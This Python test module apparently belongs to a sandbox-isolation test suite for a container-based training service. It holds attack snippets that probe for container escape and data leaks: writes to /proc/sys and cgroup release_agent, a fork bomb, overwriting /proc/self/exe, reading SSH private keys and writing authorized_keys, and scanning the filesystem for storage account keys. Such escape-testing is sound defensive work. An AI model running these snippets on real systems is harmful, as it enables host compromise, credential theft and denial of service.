"""Ways by the machine that the container runs on: kernel, files, processes, other containers."""

from typing import Final

from tests.integration.leaks.attacks.attack import Attack
from tests.integration.leaks.attacks.programs import only, stashing, training

_PROC = """
for name in ("kernel/core_pattern", "kernel/hostname", "kernel/modprobe", "vm/drop_caches", "net/ipv4/ip_forward"):
    attempt(name, lambda: open(f"/proc/sys/{name}", "w").write(WORDS[0]))
for name in ("/proc/sysrq-trigger", "/proc/kcore", "/proc/kmsg", "/proc/1/mem", "/dev/mem"):
    attempt(name, lambda: open(name, "r+b").write(TEXT))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("environ", "cmdline", "root/etc/passwd", "cwd", "comm"):
            attempt(f"{pid} {part}", lambda: open(f"/proc/{pid}/{part}", "rb").read())
attempt("my name", lambda: open("/proc/self/comm", "w").write(WORDS[0]))
attempt("cgroup", lambda: os.mkdir(f"/sys/fs/cgroup/{WORDS[0]}"))
"""
_SHARED_MEMORY = """
attempt("/dev/shm", lambda: Path("/dev/shm/rows").write_bytes(TEXT))
attempt("/tmp", lambda: Path("/tmp/rows").write_bytes(TEXT))
def attach(key):
    number = call("shmget", key, 65536, 0o1666)
    libc.shmat.restype = ctypes.c_void_p
    place = libc.shmat(number, None, 0)
    ctypes.memmove(place, TEXT, len(TEXT))
attempt("System V", attach, 0x4c45414b)
attempt("System V queue", call, "msgget", 0x4c45414b, 0o1666)
attempt("POSIX queue", call, "mq_open", b"/rows", 0o102, 0o666, None)
from multiprocessing import resource_tracker, shared_memory
def share():
    one = shared_memory.SharedMemory("rows2", create=True, size=len(TEXT))
    one.buf[:len(TEXT)] = TEXT
    resource_tracker.unregister(one._name, "shared_memory")
attempt("multiprocessing", share)
"""
_LOOK_FOR_SHARED = """
found = []
for name in ("/dev/shm/rows", "/tmp/rows", "/dev/shm/rows2", "/dev/mqueue/rows"):
    if os.path.exists(name):
        found.append(name)
if libc.shmget(0x4c45414b, 0, 0o666) != -1 or libc.msgget(0x4c45414b, 0o666) != -1:
    found.append("System V")
print("FOUND", found)
sys.exit("something of another container is here") if found else None
"""
_KEYRING = """
libc.syscall.restype = ctypes.c_long
def key(number, *arguments):
    result = libc.syscall(number, *arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), "key")
    return result
for ring in (-1, -2, -3, -4, -5):
    attempt(f"keyring {ring}", key, 248, b"user", b"rows", TEXT, min(len(TEXT), 20000), ring)
"""
_LOOK_FOR_KEYS = """
libc.syscall.restype = ctypes.c_long
found = [ring for ring in (-3, -4, -5) if libc.syscall(250, 10, ring, b"user", b"rows", 0) != -1]
found += ["requested"] if libc.syscall(249, b"user", b"rows", None, 0) != -1 else []
print("FOUND", found)
sys.exit("a key of another container is here") if found else None
"""
_ENVIRONMENT = """
print("ENVIRONMENT", json.dumps(dict(os.environ)))
os.environ["PATIENT"] = WORDS[0]
os.environ["PYTHONPATH"] = TEXT.decode()[:1000]
attempt("a child with rows in its environment", subprocess.Popen, ["sleep", "600"], start_new_session=True)
"""
_CHILD = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 65):
            attempt("ignore", __import__("signal").signal, number, 1) if number not in (9, 19, 32, 33) else None
        time.sleep(3)  # until the program itself has ended
        deadline = time.monotonic() + 600
        while time.monotonic() < deadline:
            for place in (MODEL, Path("/edgetrain/scratch"), Path("/edgetrain/evaluation"), Path("/edgetrain/answer")):
                try:
                    (place / "model.csv").write_bytes(TEXT)
                    (place / "metrics.json").write_text(json.dumps({word: 1 for word in WORDS}))
                except OSError:
                    pass
            time.sleep(0.01)
    os._exit(0)
"""
_FORKS = """
model()
print("tried", flush=True)
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
if os.fork() == 0:
    bomb()
time.sleep(4)
sys.exit(3)
"""
_WAITING = """
import signal
for number in range(1, 65):
    if number not in (9, 19, 32, 33):
        signal.signal(number, signal.SIG_IGN)
model()
print("tried", flush=True)
time.sleep(600)
"""
_CORE = """
import resource
attempt("core limit", resource.setrlimit, resource.RLIMIT_CORE, (-1, -1))
attempt("core limit", resource.setrlimit, resource.RLIMIT_CORE, resource.getrlimit(resource.RLIMIT_CORE)[1:] * 2)
os.chdir(MODEL)
model()
print("tried", flush=True)
kept = [TEXT * 100, FLOATS * 100]
os.abort()
"""
_LOOK_AROUND = """
others = []
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/opt/site", "/usr")):
        folders.clear()
        continue
    for file in files:
        path = os.path.join(folder, file)
        if file.endswith((".csv", ".pem", ".key", ".sock")) or "factory.json" in file or "auth.json" in file:
            if not path.startswith(("/edgetrain/data", "/edgetrain/holdout", "/etc/ssl", "/usr/share")):
                others.append(path)
for name in ("edgetrain/state/cache", "edgetrain/state/runs", "edgetrain/keys", ".config/edgetrain/sites", ".ssh", ""):
    attempt(f"the VM's {name}", os.listdir, f"{VM}/{name}")
for name in ("/root", "/home", "/var/lib/containers", "/run/containers", "/etc/haproxy", "/etc/ssh", "/host"):
    attempt(name, os.listdir, name)
print("OTHERS", others)
"""
_NEXT_RUN = """
for folder in ("/edgetrain", "/edgetrain/code", "/edgetrain/data", "/edgetrain/data/landing", "/edgetrain/tools",
               "/opt/site", "/var/azureml-app", "/etc", "/usr/bin", "/root", "/run", "/var/tmp", "/edgetrain/model/..",
               "/edgetrain/scratch/../..", "//edgetrain//code", "/proc/self/cwd", "/proc/self/root/edgetrain/code"):
    attempt(f"write in {folder}", lambda: open(os.path.join(folder, "part-2.csv"), "wb").write(TEXT))
    attempt(f"link in {folder}", lambda: os.symlink(SOURCE, os.path.join(folder, "linked.csv")))
for name in ("train.py", "evaluate.py", "score.py", "sample.json"):
    attempt(f"change {name}", lambda: open(f"/edgetrain/code/{name}", "wb").write(TEXT))
    attempt(f"open {name} to all", os.chmod, f"/edgetrain/code/{name}", 0o777)
attempt("change the data", lambda: open(SOURCE, "ab").write(TEXT))
attempt("rename the data", os.rename, SOURCE, str(SOURCE) + ".csv")
attempt("link the data", os.link, SOURCE, MODEL / "linked.csv")
"""
_ENGINE = """
for program in ("podman", "docker", "runc", "crun", "conmon", "haproxy", "buildah", "nerdctl"):
    attempt(program, subprocess.run, [program, "ps"], capture_output=True, check=True)
for path in ("/proc/self/exe", "/proc/1/exe"):
    attempt(f"overwrite {path}", lambda: open(path, "r+b").write(b"#!/bin/sh"))
for path in ("/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/dev/loop0"):
    attempt(path, lambda: os.open(path, os.O_RDWR))
attempt("cgroup release", lambda: open("/sys/fs/cgroup/memory/release_agent", "w").write(VM))
attempt("become root", os.setuid, 0)
for path in ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/passwd", "/bin/ping"):
    attempt(path, subprocess.run, [path, "--help"], capture_output=True, check=True)
"""
_SSHD = """
for port in (22, 2222):
    attempt("ssh", socket.create_connection, ("127.0.0.1", port), 2)
for name in ("/root/.ssh/id_ed25519", "/etc/ssh/ssh_host_ed25519_key", VM + "/.ssh/authorized_keys", "/tmp/agent"):
    attempt(name, lambda: open(name).read())
attempt("agent", lambda: os.environ["SSH_AUTH_SOCK"])
attempt("authorized_keys", lambda: open(VM + "/.ssh/authorized_keys", "w").write(TEXT.decode()))
"""
_HUB = """
found = []
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/dev", "/opt/site", "/usr", "/edgetrain/data")):
        folders.clear()
        continue
    for file in files:
        try:
            content = open(os.path.join(folder, file), "rb").read(1 << 20)
        except OSError:
            continue
        if b"AccountKey=" in content or b"SharedAccessSignature=" in content:
            found.append(os.path.join(folder, file))
print("KEYS", [path for path in found if not path.startswith("/edgetrain/code")])
import urllib.request
for port in range(10000, 10003):
    request = urllib.request.Request(f"http://127.0.0.1:{port}/testaccount/leaks/rows.csv", TEXT, method="PUT")
    attempt("hub", urllib.request.urlopen, request, timeout=2)
"""

ATTACKS: Final = (
    Attack(name="proc", train=training(_PROC), ends="completed"),
    Attack(
        name="shared-memory",
        train=training(_SHARED_MEMORY),
        evaluate=only(f"{_LOOK_FOR_SHARED}\nmeasured()"),
        ends="completed",
        tries=("train", "evaluate"),
        always=True,
    ),
    Attack(
        name="kernel-keyring",
        train=training(_KEYRING),
        evaluate=only(f"{_LOOK_FOR_KEYS}\nmeasured()"),
        ends="completed",
        tries=("train", "evaluate"),
    ),
    Attack(name="environment", train=training(_ENVIRONMENT), ends="completed"),
    Attack(name="setsid-child", train=training(_CHILD), ends="completed", always=True),
    Attack(name="fork-bomb", train=only(_FORKS), ends="failed", reason="status 3"),
    Attack(name="time-out", train=only(_WAITING), ends="failed", reason="running_limit_seconds", seconds=25),
    Attack(name="core-dump", train=only(_CORE), ends="failed", reason="was ended by SIG"),
    Attack(name="other-pipelines", train=training(_LOOK_AROUND), ends="completed", always=True),
    Attack(name="next-run", train=training(_NEXT_RUN), ends="completed", always=True),
    Attack(name="engine", train=training(_ENGINE), ends="completed"),
    Attack(name="sshd", train=training(_SSHD), ends="completed"),
    Attack(name="hub-writes", train=training(_HUB), ends="completed"),
    Attack(
        name="evaluation-looks-for-training-data",
        train=stashing("Path('/edgetrain/scratch/rows.csv').write_bytes(TEXT)"),
        evaluate=only(f"{_LOOK_AROUND}\nmeasured()"),
        ends="completed",
        tries=("train", "evaluate"),
    ),
)
